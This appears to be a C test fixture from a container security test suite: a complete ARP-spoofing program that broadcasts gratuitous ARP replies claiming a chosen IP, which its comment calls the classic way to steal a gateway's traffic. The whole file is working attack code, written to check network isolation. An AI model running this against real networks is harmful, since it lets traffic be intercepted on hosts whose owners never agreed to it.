/*
 * Test attacker: sends gratuitous ARP replies claiming IP for this interface's MAC (the classic
 * way to steal a gateway's traffic). Usage: garp IFACE IP COUNT. Built by the security test and
 * run inside a container (it needs only CAP_NET_RAW, which containers have).
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
	if (argc != 4) { fprintf(stderr, "usage: garp IFACE IP COUNT\n"); return 2; }
	int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
	if (s < 0) { perror("socket"); return 1; }
	struct ifreq ifr = {0};
	strncpy(ifr.ifr_name, argv[1], IFNAMSIZ - 1);
	if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0 || ioctl(s, SIOCGIFINDEX, &ifr) < 0) { perror("ioctl"); return 1; }
	unsigned char mac[6];
	ioctl(s, SIOCGIFHWADDR, &ifr);
	memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
	ioctl(s, SIOCGIFINDEX, &ifr);
	unsigned char f[42];
	memset(f, 0xff, 6); memcpy(f + 6, mac, 6); f[12] = 0x08; f[13] = 0x06;        /* Ethernet, ARP */
	struct ether_arp *a = (struct ether_arp *)(f + 14);
	a->arp_hrd = htons(ARPHRD_ETHER); a->arp_pro = htons(ETH_P_IP); a->arp_hln = 6; a->arp_pln = 4;
	a->arp_op = htons(ARPOP_REPLY);
	memcpy(a->arp_sha, mac, 6); inet_pton(AF_INET, argv[2], a->arp_spa);
	memset(a->arp_tha, 0xff, 6); inet_pton(AF_INET, argv[2], a->arp_tpa);
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = ifr.ifr_ifindex, .sll_halen = 6 };
	memset(to.sll_addr, 0xff, 6);
	for (int i = 0; i < atoi(argv[3]); i++) {
		if (sendto(s, f, sizeof f, 0, (struct sockaddr *)&to, sizeof to) < 0) { perror("sendto"); return 1; }
		usleep(100000);
	}
	printf("sent %s gratuitous ARP replies claiming %s\n", argv[3], argv[2]);
	return 0;
}
